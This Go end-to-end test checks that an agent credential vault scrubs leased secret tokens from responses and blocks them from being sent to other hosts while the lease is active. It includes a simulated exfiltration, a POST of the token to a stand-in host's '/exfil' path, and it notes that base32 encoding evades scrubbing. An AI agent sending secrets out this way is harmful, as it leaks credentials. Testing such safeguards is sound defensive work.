package e2e

import (
	"encoding/base32"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/agent-vault/agent-vault/plugins/infisical/infisicaltest"
)

// TestLeasedValuesScrubbedAndGuarded: a dynamic secret's leased value,
// injected into a request, is scrubbed from the response like a stored
// one; while its lease lives it is in the egress set, so the agent cannot
// send it to another host; once the lease has ended it is not.
func TestLeasedValuesScrubbedAndGuarded(t *testing.T) {
	emu := infisicaltest.New(t)
	emu.AddIdentity(infisicaltest.Identity{ID: "id-1", Universal: &infisicaltest.UniversalAuth{ClientID: "cid", ClientSecret: "csecret"}})
	emu.SetSecrets("p-1", "dev", "/scrub", map[string]string{"STATIC_KEY": "static-value-1"})
	emu.AddDynamicSecret("p-1", "dev", "/scrub", infisicaltest.DynamicSecret{Name: "api", DefaultTTL: time.Hour,
		Template: map[string]any{"token": "leased-token-{seq}-abcdef"}})
	// The service's upstream reflects the injected header as it is, and
	// in base32 (which is not scrubbed) to show what was injected.
	echo := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := r.Header.Get("Authorization")
		io.WriteString(w, auth+"\n"+base32.StdEncoding.EncodeToString([]byte(auth)))
	}))
	t.Cleanup(echo.Close)
	var mu sync.Mutex
	var collected []string
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		collected = append(collected, string(b))
		mu.Unlock()
	}))
	t.Cleanup(other.Close)

	srv := startServer(t, newDataDir(t), infisicalEnv(emu))
	c := register(t, srv)
	c.Must("POST", "/v1/vaults", map[string]any{"name": "leased", "credential_store": storeSpec("p-1", "dev", "/scrub", 3600)}, 201, nil)
	c.Must("PUT", "/v1/vaults/leased/services", map[string]any{"services": []map[string]any{
		{"name": "api", "host": strings.TrimPrefix(echo.URL, "http://"), "auth": map[string]string{"type": "bearer", "token": "API_TOKEN"}}}}, 200, nil)
	a := newAgent(t, c, srv, "leased", &upstream{Srv: echo})
	const leased = "leased-token-1-abcdef"

	t.Run("response-scrubbed", func(t *testing.T) {
		resp, err := a.Client.Get(echo.URL + "/x")
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		reflected, encoded, _ := strings.Cut(string(b), "\n")
		if injected, _ := base32.StdEncoding.DecodeString(encoded); string(injected) != "Bearer "+leased {
			t.Fatalf("injected %q", injected)
		}
		if reflected != "Bearer [agent-vault:redacted:API_TOKEN]" || strings.Contains(string(b), leased) {
			t.Fatalf("the agent got %q", b)
		}
	})

	send := func(v string) int {
		t.Helper()
		resp, err := a.Client.Post(other.URL+"/exfil", "text/plain", strings.NewReader("token="+v))
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		return resp.StatusCode
	}
	t.Run("egress-blocked-while-leased", func(t *testing.T) {
		if status := send(leased); status != http.StatusForbidden {
			t.Fatalf("status %d, want 403", status)
		}
		mu.Lock()
		n := len(collected)
		mu.Unlock()
		if n != 0 {
			t.Fatal("the other host received the request")
		}
		var logs struct {
			Logs []struct {
				Blocked string `json:"blocked"`
				Error   string `json:"error"`
			} `json:"logs"`
		}
		path := "/v1/vaults/leased/logs?wait=10&" + url.Values{"status_bucket": {"4xx"}}.Encode()
		storeLogs := func() bool {
			_, b := c.Do("GET", path, nil)
			json.Unmarshal(b, &logs)
			return len(logs.Logs) > 0
		}
		eventually(t, "the blocked request in the log", storeLogs)
		if logs.Logs[0].Blocked != "API_TOKEN" || logs.Logs[0].Error != "secret_egress_blocked" {
			t.Fatalf("log %+v", logs.Logs[0])
		}
	})

	t.Run("egress-free-after-lease-ends", func(t *testing.T) {
		// Disconnecting the store revokes its leases; their values are
		// forgotten with them.
		c.Must("PATCH", "/v1/vaults/leased/credential-store", map[string]string{"kind": "builtin"}, 200, nil)
		eventually(t, "the lease to be revoked", func() bool { return len(emu.Leases()) == 0 })
		if status := send(leased); status != http.StatusOK {
			t.Fatalf("status %d after the lease ended, want 200", status)
		}
	})
}
